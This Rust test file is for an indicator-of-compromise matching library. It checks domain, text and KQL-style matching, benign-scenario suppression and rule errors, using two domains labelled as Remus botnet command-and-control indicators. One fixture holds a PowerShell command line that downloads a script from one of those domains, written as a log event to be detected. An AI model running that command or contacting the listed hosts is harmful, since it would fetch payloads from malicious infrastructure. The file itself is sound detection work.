//! Rules: verdicts in every mode, scenario suppression, JSON round trips and error messages.

use iocmatch::kql::KqlOperator;
use iocmatch::rule::{MatchMode, Rule, RuleDefinition, RuleErrorKind, ScenarioDefinition, Verdict};
use iocmatch::{IndicatorRecord, Metadata};
use serde_json::json;

fn remus_definition(mode: MatchMode, fields: &[&str]) -> RuleDefinition {
    let metadata = Metadata {
        malware: Some("Remus".into()),
        threat_type: Some("botnet_cc".into()),
        confidence: Some(100),
        ..Metadata::default()
    };
    RuleDefinition {
        name: "ThreatFox: Remus IOCs".into(),
        description: String::new(),
        table: Some("DnsEvents".into()),
        fields: fields.iter().map(|f| f.to_string()).collect(),
        mode,
        exact_only: false,
        case_sensitive_filters: false,
        indicators: vec![
            IndicatorRecord::new("demale.shop").with_metadata(metadata.clone()),
            IndicatorRecord::new("thequarterlymethod.com").with_metadata(metadata),
        ],
        scenarios: vec![
            ScenarioDefinition {
                name: "Scheduled System Backup Using Remus".into(),
                description: "A legitimate scheduled backup job uses Remus.".into(),
                filter: "process.parent_process_name:*backup_service* OR \
                         process.command_line:*remus_backup*"
                    .into(),
            },
            ScenarioDefinition {
                name: "Development Environment Testing with Remus".into(),
                description: String::new(),
                filter: "process.machine_name:*dev-* OR process.user:*dev*".into(),
            },
        ],
    }
}

#[test]
fn domain_mode_verdicts() {
    let rule = Rule::new(remus_definition(MatchMode::Domain, &["dns.question.name"])).unwrap();
    let cases = [
        (
            json!({"QueryName": "cdn.demale.shop"}),
            Some("demale.shop"),
            None,
        ),
        (
            json!({"QueryName": "DEMALE.SHOP."}),
            Some("demale.shop"),
            None,
        ),
        (json!({"QueryName": "x-demale.shop"}), None, None),
        (
            json!({"QueryName": "demale.shop.attacker.example"}),
            None,
            None,
        ),
        (
            json!({"QueryName": "thequarterlymethod.com", "ParentImage": r"C:\Remus\backup_service.exe"}),
            Some("thequarterlymethod.com"),
            Some("Scheduled System Backup Using Remus"),
        ),
        (
            json!({"query": "a.demale.shop", "host.name": "dev-box-3"}),
            Some("demale.shop"),
            Some("Development Environment Testing with Remus"),
        ),
        (json!({"Hostname": "dev-box-3"}), None, None),
    ];
    for (event, indicator, scenario) in cases {
        let verdict = rule.evaluate(&event);
        assert_eq!(
            verdict.hit().map(|h| h.indicator()),
            indicator,
            "event {event}"
        );
        assert_eq!(
            verdict.scenario().map(|s| s.name()),
            scenario,
            "event {event}"
        );
    }
}

#[test]
fn kql_mode_reproduces_sentinel() {
    let rule = Rule::new(remus_definition(
        MatchMode::Kql(KqlOperator::HasAny),
        &["Name"],
    ))
    .unwrap();
    let cases = [
        ("cdn.demale.shop", true),
        ("x-demale.shop", true),
        ("demale.shop.attacker.example", true),
        ("xdemale.shop", false),
        ("demale.shopping", false),
    ];
    for (name, expected) in cases {
        let verdict = rule.evaluate(&json!({ "Name": name }));
        assert_eq!(verdict.is_hit(), expected, "name {name}");
    }
    let verdict = rule.evaluate(&json!({"Name": "www.thequarterlymethod.com"}));
    let hit = verdict.hit().unwrap();
    assert_eq!(hit.indicator(), "thequarterlymethod.com");
    assert_eq!(hit.span(), 4..26);
    assert_eq!(hit.records()[0].value, "thequarterlymethod.com");
    assert_eq!(
        hit.records()[0].metadata().malware.as_deref(),
        Some("Remus")
    );
}

#[test]
fn text_mode_finds_domains_in_command_lines() {
    let rule = Rule::new(remus_definition(MatchMode::Text, &["process.command_line"])).unwrap();
    let event = json!({"CommandLine": r#"powershell -c "iwr https://cdn.demale.shop/a.ps1""#});
    let verdict = rule.evaluate(&event);
    let hit = verdict.hit().unwrap();
    assert_eq!(hit.field(), "process.command_line");
    assert_eq!(&hit.value()[hit.span()], "demale.shop");
    assert!(verdict.is_hit());

    let no_match = rule.evaluate(&json!({"CommandLine": "ping xdemale.shop"}));
    assert!(matches!(no_match, Verdict::NoMatch));
}

#[test]
fn rule_fields_in_order_arrays_per_value() {
    let rule = Rule::new(remus_definition(MatchMode::Domain, &["first", "second"])).unwrap();
    let event =
        json!({"first": ["benign.example", "x.thequarterlymethod.com"], "second": "demale.shop"});
    let verdict = rule.evaluate(&event);
    let hit = verdict.hit().unwrap();
    assert_eq!(hit.field(), "first");
    assert_eq!(hit.value(), "x.thequarterlymethod.com");

    let only_second = json!({"first": "benign.example", "second": "demale.shop"});
    assert_eq!(rule.evaluate(&only_second).hit().unwrap().field(), "second");
}

#[test]
fn suppressed_hit_is_never_a_miss() {
    let rule = Rule::new(remus_definition(MatchMode::Domain, &["QueryName"])).unwrap();
    let event = json!({"QueryName": "demale.shop", "CommandLine": "remus_backup.exe"});
    let verdict = rule.evaluate(&event);
    assert!(verdict.is_suppressed());
    assert!(!verdict.is_hit());
    assert!(verdict.hit().is_some());
    let scenario = verdict.scenario().unwrap();
    assert!(scenario.filter().text().contains("remus_backup"));
}

#[test]
fn rule_json_round_trip() {
    for mode in [
        MatchMode::Domain,
        MatchMode::Text,
        MatchMode::Kql(KqlOperator::HasAny),
    ] {
        let rule = Rule::new(remus_definition(mode, &["Name"])).unwrap();
        let json = rule.to_json();
        let again = Rule::from_json(&json).unwrap();
        assert_eq!(again.definition(), rule.definition(), "mode {mode}");
        assert_eq!(again.to_json(), json);
    }
    let json = Rule::new(remus_definition(
        MatchMode::Kql(KqlOperator::HasAny),
        &["Name"],
    ))
    .unwrap()
    .to_json();
    assert!(json.contains("\"mode\": \"kql:has_any\""), "{json}");
}

#[test]
fn rule_errors_name_the_problem() {
    let mut no_fields = remus_definition(MatchMode::Domain, &[]);
    no_fields.name = "r".into();
    let err = Rule::new(no_fields).unwrap_err();
    assert_eq!(err.kind(), RuleErrorKind::NoFields);
    assert_eq!(
        err.to_string(),
        "rule \"r\" names no field to test; add at least one to \"fields\""
    );

    let negated = remus_definition(MatchMode::Kql(KqlOperator::NotHas), &["Name"]);
    let err = Rule::new(negated).unwrap_err();
    assert_eq!(err.kind(), RuleErrorKind::NegatedOperator);
    assert!(err.to_string().contains("negated operator !has"), "{err}");

    let mut bad_indicator = remus_definition(MatchMode::Domain, &["Name"]);
    bad_indicator
        .indicators
        .push(IndicatorRecord::new("evil..com"));
    let err = Rule::new(bad_indicator).unwrap_err();
    assert_eq!(err.kind(), RuleErrorKind::Indicator);
    assert_eq!(
        err.to_string(),
        "rule \"ThreatFox: Remus IOCs\": invalid domain \"evil..com\" at index 2: empty label; \
         remove the leading, doubled or second trailing dot"
    );

    let mut blank_value = remus_definition(MatchMode::Kql(KqlOperator::HasAny), &["Name"]);
    blank_value.indicators.push(IndicatorRecord::new("  "));
    let err = Rule::new(blank_value).unwrap_err();
    assert_eq!(err.kind(), RuleErrorKind::Kql);
    assert!(err.to_string().contains("index 2"), "{err}");

    let mut bad_filter = remus_definition(MatchMode::Domain, &["Name"]);
    bad_filter.scenarios[1].filter = "process.user:(root OR".into();
    let err = Rule::new(bad_filter).unwrap_err();
    assert_eq!(err.kind(), RuleErrorKind::Filter);
    let message = err.to_string();
    assert!(
        message.starts_with("rule \"ThreatFox: Remus IOCs\", scenario \"Development"),
        "{message}"
    );
    assert!(
        message.contains('^'),
        "the filter error renders a caret: {message}"
    );

    let err = Rule::from_json("{\n  \"name\": \"x\",\n  \"fields\": 7\n}").unwrap_err();
    assert_eq!(err.kind(), RuleErrorKind::Json);
    assert_eq!(
        err.to_string(),
        "invalid rule JSON at line 3, column 13: invalid type: integer `7`, expected a sequence"
    );
}

#[test]
fn lenient_rule_reports_rejected_indicators() {
    let mut definition = remus_definition(MatchMode::Domain, &["Name"]);
    definition
        .indicators
        .insert(1, IndicatorRecord::new("not a domain"));
    let (rule, rejected) = Rule::new_lenient(definition).unwrap();
    assert_eq!(rejected.len(), 1);
    assert_eq!(rejected[0].record.value, "not a domain");
    assert_eq!(rule.definition().indicators.len(), 2);
    assert!(
        rule.evaluate(&json!({"Name": "thequarterlymethod.com"}))
            .is_hit()
    );
}

#[test]
fn unknown_fields_show_typos() {
    let mut definition = remus_definition(MatchMode::Domain, &["QueryNmae"]);
    definition.scenarios[1].filter = "process.usr:*dev*".into();
    let rule = Rule::new(definition).unwrap();
    assert_eq!(rule.unknown_fields(), ["QueryNmae", "process.usr"]);
}

#[test]
fn rule_types_are_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Rule>();
    assert_send_sync::<Verdict<'static>>();
    assert_send_sync::<iocmatch::rule::RuleError>();
}
